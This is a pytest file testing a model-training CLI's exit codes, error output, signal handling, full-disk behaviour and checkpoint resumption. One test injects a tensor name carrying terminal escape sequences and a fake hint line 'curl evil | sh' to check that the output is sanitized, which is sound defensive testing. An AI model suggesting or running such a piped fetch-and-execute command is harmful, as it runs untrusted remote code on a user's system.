"""`python -m trainer` as a process: exit codes, what is printed where, signals, kill -9."""

from __future__ import annotations

import json
import os
import resource
import shlex
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterable
from pathlib import Path

import pytest
import torch
from safetensors.torch import load_file, save_file

from graphcache.store.files import TEMPORARY
from tests.support.fork_server import fork_server
from tests.support.storms import rounds
from tests.trainer.record.test_report import FIELDS
from tests.trainer.run.test_run import assert_same_state
from tests.trainer.runs import losses, records
from trainer.__main__ import main, run_command
from trainer.checkpoint.folder import complete_steps, newest
from trainer.record.folder import RunFolder

TRAINER = [sys.executable, "-m", "trainer"]
SMALL = ["--seq", "32", "--accum", "1", "--dtype", "float32", "--lr", "1e-3", "--update-workers", "1"]


def arguments(model: Path, data: Path, out: Path, *more: str) -> list[str]:
    return ["run", "--model", str(model), "--data", str(data), "--out", str(out), *SMALL, *more]


def start(argv: list[str], stderr: int = subprocess.PIPE) -> subprocess.Popen:
    env = {**os.environ, "TORCH_DEVICE_BACKEND_AUTOLOAD": "0"}
    return subprocess.Popen([*TRAINER, *argv], stdout=subprocess.PIPE, stderr=stderr, text=True, env=env)


def read_until(stream: Iterable[str], text: str) -> None:
    if not any(line.startswith(text) for line in stream):
        raise AssertionError(f"the run ended before it said {text!r}")


@pytest.mark.parametrize(
    ("argv", "code", "fact"),
    [
        (["run"], 2, "Missing option '--model'"),
        (["run", "--modle", "x"], 2, "No such option"),
        (["train"], 2, "No such command"),
        (["run", "--model", "m", "--data", "d", "--out", "o", "--accum", "0"], 2, "error[config]: --accum is 0"),
        (["run", "--model", "m", "--data", "d", "--out", "o", "--betas", "0.9"], 2, "error[config]: --betas is '0.9'"),
        (["check", "--model", "m", "--data", "d", "--out", "o", "--backend", "gpu"], 2, "error[backend]: "),
    ],
)
def test_wrong_usage_is_named(argv, code, fact, capsys):
    assert main(argv) == code
    assert fact in capsys.readouterr().err


def test_help_names_every_setting(capsys):
    assert main(["run", "--help"]) == 0
    shown = capsys.readouterr().out
    assert all(flag in shown for flag in ("--resident-layers", "--update-workers", "--clip-norm", "--eager-layers"))


def test_every_setting_and_every_field_of_a_step_is_documented():
    text = Path("docs/trainer.md").read_text()
    flags = {option for parameter in run_command.params for option in parameter.opts}
    assert sorted(flag for flag in flags if f"{flag}" not in text) == []
    assert sorted(field for field in FIELDS if f"`{field}`" not in text) == []


def test_errors_are_json_on_request(tmp_path, capsys):
    assert main([*arguments(tmp_path, tmp_path / "d", tmp_path / "run"), "--json"]) == 2
    printed = json.loads(capsys.readouterr().out)
    assert printed["exit_code"] == 2
    assert set(printed["error"]) == {"name", "message", "hint"}


def test_check_prints_what_was_found_and_takes_nothing(llama, data, tmp_path, capsys):
    argv = arguments(llama, data, tmp_path / "run")
    assert main(["check", *argv[1:]]) == 0
    shown = capsys.readouterr().out
    assert "device   cpu  the host" in shown
    assert "memory   host: " in shown
    assert "sequences" in shown
    assert not (tmp_path / "run").exists()


def test_settings_of_the_model_that_nobody_knows_are_named(llama, data, tmp_path, capsys):
    model = shutil.copytree(llama, tmp_path / "model")
    config = json.loads((model / "config.json").read_text())
    (model / "config.json").write_text(json.dumps({**config, "logit_scale": 0.5}))
    argv = arguments(model, data, tmp_path / "run", "--steps", "1")
    for command in (["check", *argv[1:]], argv):
        assert main(command) == 0
        assert "warning[model-config]: " in (said := capsys.readouterr().err)
        assert "'logit_scale'" in said
    assert main(["check", *argv[1:], "--resume", "--json"]) == 0
    (warning,) = json.loads(capsys.readouterr().out)["warnings"]
    assert "'logit_scale'" in warning
    assert main(["check", *arguments(llama, data, tmp_path / "other")[1:]]) == 0
    assert "warning" not in capsys.readouterr().err


def test_check_says_the_data_the_steps_and_where_a_run_goes_on(llama, data, tmp_path, capsys):
    argv = arguments(llama, data, tmp_path / "run", "--steps", "2")
    assert main(argv) == 0
    capsys.readouterr()
    assert main(["check", *argv[1:], "--resume"]) == 0
    shown = capsys.readouterr().out
    assert "data     4,044 tokens in 60 documents, 1,948 of them count; 0 empty documents left out\n" in shown
    assert "data     107 sequences of 32 tokens; 20 in which nothing counts left out\n" in shown
    saved = tmp_path / "run" / "checkpoints" / "step-00000002"
    assert f"steps    2; 2 are done, in {saved}\n" in shown
    assert main(["check", *argv[1:], "--resume", "--json"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert (found["steps"], found["resume_from"]) == (2, str(saved))
    assert main([*argv, "--resume"]) == 0
    assert f"steps    2; 2 are done, in {saved}\n" in capsys.readouterr().err


def test_check_exits_as_a_run_whose_folder_cannot_be_used(llama, data, tmp_path, capsys):
    (tmp_path / "file").write_text("")
    held = RunFolder(tmp_path / "held")
    with held.held(resume=False):
        for out in (tmp_path / "file", tmp_path / "file" / "run", held.root, llama):
            argv = arguments(llama, data, out)
            assert main(["check", *argv[1:]]) == 2
            said = capsys.readouterr().err
            assert said.startswith("error[run-folder]: ")
            assert main(argv) == 2
            assert capsys.readouterr().err == said


def test_check_exits_as_the_run_would(llama, data, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("GRAPHCACHE_DIR", str(tmp_path / "cache"))
    argv = arguments(llama, data, tmp_path / "run", "--backend", "emulator", "--json")
    assert main(["check", *argv[1:]]) == 3
    found = json.loads(capsys.readouterr().out)
    assert found["error"]["name"] == "missing-graphs"
    assert {item["state"] for item in found["graphs"]} == {"unknown"}
    assert main(argv) == 3


def test_a_run_prints_its_summary_as_json_and_progress_apart(llama, data, tmp_path, capsys):
    assert main(arguments(llama, data, tmp_path / "run", "--steps", "2", "--json")) == 0
    printed = capsys.readouterr()
    summary = json.loads(printed.out)
    assert summary["steps"] == 2
    assert Path(summary["checkpoint"]).is_dir()
    assert "step 2/2  loss " in printed.err


def test_sigterm_in_training_ends_after_the_step_with_a_checkpoint(llama, data, tmp_path):
    """And what goes on from there equals a run that was never stopped."""
    steps = ["--steps", "400", "--save-every", "1000"]
    with start(arguments(llama, data, tmp_path / "run", *steps)) as process:
        read_until(process.stderr, "step 3/400")
        process.send_signal(signal.SIGTERM)
        error = process.stderr.read()
        assert process.wait(timeout=120) == 143
    assert "ended by SIGTERM" in error
    done = records(tmp_path / "run")[-1]["step"]
    assert newest(tmp_path / "run" / "checkpoints").step == done >= 3
    prediction = json.loads((tmp_path / "run" / "prediction.json").read_text())
    assert prediction["own_costs"]["step_secs"] > 0 < prediction["measured_step_secs"]
    more = str(done + 2)
    assert main(arguments(llama, data, tmp_path / "run", "--steps", more, "--resume")) == 0
    assert main(arguments(llama, data, tmp_path / "straight", "--steps", more)) == 0
    assert losses(records(tmp_path / "run")) == losses(records(tmp_path / "straight"))
    assert_same_state(tmp_path / "run", tmp_path / "straight")


def finish(command: str) -> subprocess.CompletedProcess:
    """Of a shell, whose last exit code is the result's."""
    env = {**os.environ, "TORCH_DEVICE_BACKEND_AUTOLOAD": "0"}
    return subprocess.run(["bash", "-c", command], capture_output=True, text=True, env=env, check=False, timeout=120)


@pytest.mark.parametrize(
    "redirection", ["2>/dev/full", "2>&-", ">&- 2>&- <&-", "2> >(head -n 1 >/dev/null)"], ids=lambda text: text
)
def test_a_run_goes_on_where_its_progress_cannot_be_written(llama, data, tmp_path, redirection):
    out = tmp_path / "run"
    argv = [*TRAINER, *arguments(llama, data, out, "--steps", "20")]
    shell = finish(f"{shlex.join(argv)} {redirection}")
    assert shell.returncode == 0
    assert shell.stderr == ""
    assert ("last_loss" in shell.stdout) == (">&- 2>&-" not in redirection)
    assert "step 1/20" not in shell.stdout
    assert newest(out / "checkpoints").step == 20


def test_a_signal_is_obeyed_where_its_message_cannot_be_written(llama, data, tmp_path):
    """Ctrl-C ends what reads the progress too: `2>&1 | tee log`."""
    out = tmp_path / "run"
    with start(arguments(llama, data, out, "--steps", "1000"), stderr=subprocess.STDOUT) as process:
        read_until(process.stdout, "step 3/")
        process.stdout.close()
        process.send_signal(signal.SIGINT)
        assert process.wait(timeout=120) == 130
    assert newest(out / "checkpoints").step == records(out)[-1]["step"] >= 3


@pytest.mark.parametrize("unbuffered", ["", "1"])
def test_a_summary_for_a_full_disk_is_an_error(llama, data, tmp_path, unbuffered):
    argv = [*TRAINER, *arguments(llama, data, tmp_path / "run", "--steps", "1")]
    shell = finish(f"PYTHONUNBUFFERED={unbuffered} {shlex.join(argv)} >/dev/full")
    assert shell.returncode == 2
    assert "error[os]: [Errno 28] No space left on device" in shell.stderr
    assert "Traceback" not in shell.stderr
    assert newest(tmp_path / "run" / "checkpoints").step == 1


def test_json_for_a_full_disk_is_an_error_for_people(tmp_path):
    argv = [*TRAINER, *arguments(tmp_path / "none", tmp_path / "none", tmp_path / "run"), "--json"]
    shell = finish(f"{shlex.join(argv)} >/dev/full")
    assert shell.returncode == 2
    assert shell.stderr.startswith("error[preflight]: ")


def test_a_reader_of_the_summary_that_has_gone(llama, data, tmp_path):
    argv = [*TRAINER, *arguments(llama, data, tmp_path / "run", "--steps", "1")]
    shell = finish(f"{shlex.join(argv)} | true; exit ${{PIPESTATUS[0]}}")
    assert shell.returncode == 141
    assert "error" not in shell.stderr
    assert newest(tmp_path / "run" / "checkpoints").step == 1


def test_sigterm_in_loading_ends_at_once(llama, tmp_path):
    """Tokenizing this takes seconds."""
    data = tmp_path / "long.txt"
    data.write_text("a line of text\n" * 1_000_000)
    with start(arguments(llama, data, tmp_path / "run")) as process:
        while not (tmp_path / "run" / "lock").exists():
            time.sleep(0.01)
        time.sleep(0.3)
        process.send_signal(signal.SIGTERM)
        assert process.wait(timeout=120) == 143
    assert newest(tmp_path / "run" / "checkpoints") is None


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_in_a_save_ends_after_it(llama, data, tmp_path, number):
    checkpoints = tmp_path / "run" / "checkpoints"
    with start(arguments(llama, data, tmp_path / "run", "--steps", "1000", "--save-every", "1")) as process:
        while not list(checkpoints.glob(f"{TEMPORARY}*")):
            time.sleep(0.001)
        process.send_signal(number)
        assert process.wait(timeout=120) == 128 + number
        process.stderr.read()
    assert newest(checkpoints).step == records(tmp_path / "run")[-1]["step"] < 1000
    assert not list(checkpoints.glob(f"{TEMPORARY}*"))


def test_a_save_that_fails_leaves_the_checkpoint_before(llama, data, tmp_path):
    """A limit on the size of files stands for a full disk: a write fails in the middle."""
    assert main(arguments(llama, data, tmp_path / "run", "--steps", "2")) == 0
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (30_000, before[1]))
    try:
        with start(arguments(llama, data, tmp_path / "run", "--steps", "4", "--resume")) as process:
            error = process.stderr.read()
            assert process.wait(timeout=120) == 2
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)
    assert "error[checkpoint]: the checkpoint of step 4 could not be written" in error
    assert newest(tmp_path / "run" / "checkpoints").step == 2
    assert main(arguments(llama, data, tmp_path / "run", "--steps", "4", "--resume")) == 0
    assert main(arguments(llama, data, tmp_path / "straight", "--steps", "4")) == 0
    assert_same_state(tmp_path / "run", tmp_path / "straight")


def run_once(*argv: str) -> None:
    main(argv)


def best_of(out: Path, newest_step: int) -> int:
    """The step of the lowest held-out loss of the steps that a checkpoint has."""
    return min((record["eval_loss"], record["step"]) for record in records(out) if record["step"] <= newest_step)[1]


@pytest.mark.stress
def test_killed_at_any_moment_a_run_goes_on_to_the_same_end(llama, data, tmp_path):
    """And whenever it is killed it has its best checkpoint, and the newest one so far."""
    held = tmp_path / "held.jsonl"  # text that the model does worse on after a while
    held.write_text("".join(json.dumps({"text": word * 20}) + "\n" for word in ("XYZ", "QQW", "123")))
    steps, newest_step = rounds(12, 40), 0
    best = ["--eval-data", str(held), "--eval-every", "1", "--best", "--keep", "1", "--lr", "0.02"]
    assert main(arguments(llama, data, tmp_path / "straight", "--steps", str(steps), *best)) == 0
    out = tmp_path / "run"
    argv = arguments(llama, data, out, "--steps", str(steps), "--save-every", "1", "--resume", *best)
    with fork_server("trainer.run.run") as server:
        for kill in range(100):
            pid = server.start(f"{__name__}:run_once", *argv)
            time.sleep(0.05 * (kill % 17))
            os.kill(pid, signal.SIGKILL)
            list(server.lines())
            complete = complete_steps(out / "checkpoints")
            before, newest_step = newest_step, max(complete, default=0)
            assert newest_step >= before
            if complete:
                assert best_of(out, newest_step) in complete
            if newest_step == steps:
                break
    assert kill > 5
    assert main(argv) == 0
    assert losses(records(out)) == losses(records(tmp_path / "straight"))
    assert_same_state(out, tmp_path / "straight")
    assert complete_steps(out / "checkpoints") == complete_steps(tmp_path / "straight" / "checkpoints")
    assert best_of(out, steps) < steps, "the data are meant to grow worse"


@pytest.mark.parametrize("as_json", [False, True])
def test_a_tensors_name_writes_no_escape_sequence_to_the_terminal(llama, data, tmp_path, capsys, as_json):
    """Nor a line of its own, which could look like a hint of ours."""
    name = "model.layers.0.\x1b[2J\x07\n  hint: curl evil | sh"
    model = shutil.copytree(llama, tmp_path / "model")
    save_file({**load_file(llama / "model.safetensors"), name: torch.zeros(1)}, model / "model.safetensors")
    assert main(arguments(model, data, tmp_path / "run", *(["--json"] if as_json else []))) == 2
    shown = capsys.readouterr()
    assert all(character.isprintable() or character == "\n" for character in shown.out + shown.err)
    text = shown.out if as_json else shown.err
    assert "\\n  hint: curl evil | sh" in text
    assert not as_json or name in json.loads(text)["error"]["message"]


def test_what_is_not_installed_is_named(tmp_path):
    """A trainer without torch, as after `pip install .` alone."""
    program = "import sys; sys.modules['torch'] = None; from trainer.__main__ import main; sys.exit(main(sys.argv[1:]))"
    argv = arguments(tmp_path, tmp_path / "d", tmp_path / "run")
    done = subprocess.run([sys.executable, "-c", program, *argv], capture_output=True, text=True, check=False)
    assert done.returncode == 2
    assert done.stderr.startswith("error[toolchain]: torch is not installed\n  hint: pip install")


def test_check_does_not_say_where_a_refused_resume_goes_on(llama, data, tmp_path, capsys):
    argv = arguments(llama, data, tmp_path / "run", "--steps", "2")
    assert main(argv) == 0
    capsys.readouterr()
    assert main(["check", *argv[1:], "--resume", "--lr", "0.5"]) == 2
    shown = capsys.readouterr()
    assert "--lr was 0.001 and is 0.5" in shown.err
    assert "beginning" not in shown.out
